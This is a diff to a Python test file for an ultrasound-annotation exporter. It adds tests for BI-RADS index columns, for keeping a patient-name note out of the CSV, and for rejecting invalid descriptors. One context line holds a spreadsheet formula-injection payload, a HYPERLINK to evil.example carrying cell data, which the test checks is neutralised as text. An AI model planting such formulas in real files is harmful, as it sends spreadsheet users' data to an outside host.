@@ -26,7 +26,8 @@ def _image(path, pixels, fmt="PNG"):
     return path.read_bytes()
 
 
-def _save(store, data, *, label, mask, worklist_path, annotator="Dr Ada", day=1):
+def _save(store, data, *, label, mask, worklist_path, annotator="Dr Ada", day=1,
+          descriptors=None, note=""):
     sha = hashlib.sha256(data).hexdigest()
     height, width = mask.shape
     record = build_record(
@@ -35,6 +36,8 @@ def _save(store, data, *, label, mask, worklist_path, annotator="Dr Ada", day=1)
         annotator=annotator,
         final_mask=mask,
         final_label=label,
+        descriptors=descriptors,
+        note=note,
         saved_at=dt.datetime(2026, 12, day, 9, 0, tzinfo=dt.UTC),
     )  # fmt: skip
     store.save(sha, svg="<svg/>", mask_png=vectorizer.mask_to_png(mask), record=record)
@@ -245,3 +248,51 @@ def test_a_name_a_spreadsheet_would_run_is_written_as_text(saved, tmp_path):
         rows = {r["worklist_path"]: r for r in csv.DictReader(handle)}
     assert rows["d.png"]["annotator"] == '\'=HYPERLINK("http://evil.example/?"&A2,"open")'
     assert rows["study1/b.png"]["annotator"] == "Dr Ada"
+
+
+def test_the_index_gives_each_images_bi_rads_reading_and_no_note(saved, tmp_path):
+    worklist, store = saved["worklist"], AnnotationStore(saved["data"])
+    # b revised with a BI-RADS reading and a note: v2, the version exported.
+    _save(store, (worklist / "study1" / "b.png").read_bytes(), label="benign",
+          mask=saved["lesion"], worklist_path="study1/b.png", day=3,
+          descriptors={"assessment": "4A", "shape": "oval", "posterior_features": "none",
+                       "margin": ["microlobulated", "angular"]},
+          note="Jane Doe, 1961: compare with the 2023 study.")  # fmt: skip
+    out = tmp_path / "out"
+    assert export_busi(saved["data"], worklist, out).total == 3
+    # The BI-RADS columns come after the others, which keep their places.
+    assert INDEX_COLUMNS == (
+        "class", "name", "duplicate_group", "masks", "sha256", "version", "annotator",
+        "worklist_path", "saved_at", "birads_assessment", "birads_shape",
+        "birads_orientation", "birads_margin", "birads_echo_pattern",
+        "birads_posterior_features",
+    )  # fmt: skip
+    with open(out / "index.csv", newline="", encoding="utf-8") as handle:
+        rows = {r["worklist_path"]: r for r in csv.DictReader(handle)}
+    birads = INDEX_COLUMNS[-6:]
+    # The margin in the lexicon's order; "none" is a posterior feature, not an empty cell.
+    assert [rows["study1/b.png"][c] for c in birads] == [
+        "4A", "oval", "", "angular; microlobulated", "", "none"]
+    assert rows["study1/b.png"]["version"] == "2"
+    assert [rows["study2/a.png"][c] for c in birads] == [""] * 6  # saved without
+    assert "Jane Doe" not in (out / "index.csv").read_text(encoding="utf-8")
+    # The models' loader reads the index as before: its groups, the other columns ignored.
+    assert {(s.class_name, s.name, s.group) for s in load_samples(out)} == {
+        ("benign", "benign (1)", saved["sha"]["b"][:16]),
+        ("malignant", "malignant (1)", saved["sha"]["a"][:16]),
+        ("normal", "normal (1)", saved["sha"]["c"][:16]),
+    }
+
+
+def test_an_image_whose_descriptors_are_outside_the_lexicon_is_left_out(saved, tmp_path):
+    import json
+
+    path = saved["data"] / saved["sha"]["b"] / "v001.json"
+    record = json.loads(path.read_text(encoding="utf-8"))
+    record["final"]["descriptors"]["assessment"] = "4"  # BI-RADS 4 is 4A, 4B or 4C
+    path.write_text(json.dumps(record), encoding="utf-8")
+    report = export_busi(saved["data"], saved["worklist"], tmp_path / "out")
+    assert report.exported == {"normal": 1, "benign": 0, "malignant": 1}
+    reasons = {where.rsplit("/", 1)[-1]: why for where, why in report.skipped}
+    assert reasons[saved["sha"]["b"]].startswith(
+        "its descriptors: descriptors['assessment'] = '4' is not one of 0, 1, 2, 3, 4A")
